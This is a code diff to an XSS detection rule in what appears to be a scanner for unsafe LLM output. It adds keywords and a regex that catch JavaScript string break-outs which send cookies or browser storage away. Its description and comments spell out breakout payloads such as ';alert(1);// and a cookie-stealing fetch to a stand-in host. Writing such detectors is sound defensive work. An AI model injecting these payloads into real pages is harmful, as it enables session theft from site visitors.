@@ -244,9 +244,13 @@ export const xssJsBreakoutRule: Rule = {
   owasp: 'LLM05:2025',
   title: 'XSS: JavaScript string break-out',
   description:
-    "A quote that closes a JavaScript string followed by a probe call (';alert(1);//, \"-alert(1)-\", \\'-alert(1)//). Reflected into an inline script it runs code without any HTML tag.",
+    "A quote that closes a JavaScript string followed by a probe call (';alert(1);//, \"-alert(1)-\", \\'-alert(1)//) or by code that sends the cookie or local storage away (`+fetch(`//x/${document.cookie}`)+`). Reflected into an inline script it runs code without any HTML tag.",
   confidence: 0.85,
-  keywords: ['alert', 'prompt', 'confirm'],
-  patterns: [/(?:['"`]\s*[;+,)|&-]{1,3}\s*|^\s*;\s*)(?:alert|prompt|confirm)\s*(?:\(|`)[^)`\n]{0,40}[)`]\s*(?:;|\/\/|[+-]|$)/g],
+  keywords: ['alert', 'prompt', 'confirm', 'cookie', 'localstorage', 'sessionstorage'],
+  patterns: [
+    /(?:['"`]\s*[;+,)|&-]{1,3}\s*|^\s*;\s*)(?:alert|prompt|confirm)\s*(?:\(|`)[^)`\n]{0,40}[)`]\s*(?:;|\/\/|[+-]|$)/g,
+    // The real thing rather than the probe: break out, then send the cookie or storage away ('+fetch('//x/'+document.cookie)+').
+    /['"`]\s*[;+,|&-]{1,3}\s*(?:fetch|eval|import|navigator\.sendbeacon|(?:document|window)\.location(?:\.href)?\s*=|location(?:\.href)?\s*=|new\s+image\s*\(\s*\)\.src\s*=|document\.write)\s*\(?[^\n]{0,120}?(?:document\.cookie|localstorage|sessionstorage)/g,
+  ],
   validate: (m, view) => 0.85 * explanationFactor(view.text, m.index, m.index + m[0].length),
 };
